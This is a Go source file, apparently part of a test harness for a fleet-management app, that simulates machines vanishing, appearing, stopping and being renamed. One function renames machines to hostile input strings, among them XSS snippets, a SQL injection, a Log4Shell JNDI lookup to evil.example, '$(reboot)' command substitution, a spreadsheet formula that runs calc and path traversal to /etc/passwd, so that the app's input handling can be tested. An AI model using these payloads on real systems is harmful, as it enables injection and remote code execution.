package main

import (
	"fmt"
	"slices"
	"strings"
	"time"

	"github.com/onepane/onepane-fleet-app/pkg/simulated"
)

// usualEvents are what happens in every scenario that doesn't say otherwise: without a world that moves, nothing old is wrong.
var usualEvents = []event{
	{8 * time.Second, move(2)},
	{20 * time.Second, move(1)},
}

// move lets so many machines of each kind vanish, appear, stop and change their names.
func move(n int) func(simulated.Estate) simulated.World {
	return func(e simulated.Estate) simulated.World {
		hybrid := pick(e, n, func(m simulated.Machine) bool { return m.Kind != "ec2" })
		instances := pick(e, 4*n, func(m simulated.Machine) bool { return m.Kind == "ec2" && m.Managed && m.Power.Running })
		renamed := map[string]string{}
		for _, id := range pick(e, 3*n, func(m simulated.Machine) bool { return m.Kind == "onPremises" }) {
			if !slices.Contains(hybrid, id) {
				renamed[id] = "renamed-" + id
			}
		}
		return simulated.World{
			Vanish: slices.Concat(hybrid, instances[:min(n, len(instances))]),
			Stop:   instances[min(n, len(instances)):min(2*n, len(instances))],
			Appear: 2 * n,
			Rename: renamed,
		}
	}
}

// hostileNames gives machines names that somebody may have made up to do harm.
func hostileNames(e simulated.Estate) simulated.World {
	names := []string{
		`<img src=x onerror=alert(1)>`, `"><script>alert(1)</script>`, `'; DROP TABLE nodes; --`, "${jndi:ldap://evil.example/a}", "{{constructor}}",
		"$(reboot)", "javascript:alert(1)", "=cmd|' /C calc'!A0", "../../etc/passwd", "web\u202e10-dwp", "\u200bweb-01", "\U0001F4A9", "%00%0a", "null", "-1", "NaN",
		strings.Repeat("long", 1000), "__proto__", "tag:Owner", "compliant", "Ωmega-é", "a|b|c", "a\tb",
	}
	renamed := map[string]string{}
	for i, id := range pick(e, len(names), func(m simulated.Machine) bool { return m.Kind == "onPremises" || m.Kind == "gcp" }) {
		renamed[id] = names[i]
	}
	return simulated.World{Rename: renamed}
}

// onlyAppear and onlyVanish are what an auto scaling group does.
func onlyAppear(n int) func(simulated.Estate) simulated.World {
	return func(simulated.Estate) simulated.World { return simulated.World{Appear: n} }
}

func onlyVanish(n int) func(simulated.Estate) simulated.World {
	return func(e simulated.Estate) simulated.World {
		return simulated.World{Vanish: pick(e, n, func(m simulated.Machine) bool { return m.Managed })}
	}
}

// pick gives the ids of some machines, the same in every run of a scenario, from all over the estate.
func pick(e simulated.Estate, n int, fits func(simulated.Machine) bool) []string {
	var ids []string
	for _, m := range e.Machines {
		if fits(m) {
			ids = append(ids, m.NodeID)
		}
	}
	// By the end of their ids, which has nothing to do with where they are.
	slices.SortFunc(ids, func(a, b string) int { return strings.Compare(reversed(a), reversed(b)) })
	return ids[:min(n, len(ids))]
}

func reversed(text string) string {
	runes := []rune(text)
	slices.Reverse(runes)
	return string(runes)
}

// change lets something happen to the world, and has it noted what is true since.
func (r *run) change(of func(simulated.Estate) simulated.World) error {
	r.changing.Lock()
	defer r.changing.Unlock()
	began := time.Now()
	if err := r.simulator.Change(of(r.judge.History.Now())); err != nil {
		return fmt.Errorf("the world doesn't change: %w", err)
	}
	changed := time.Now()
	estate, err := r.simulator.Estate()
	if err != nil {
		return err
	}
	r.judge.History.Became(estate, began, changed)
	return nil
}
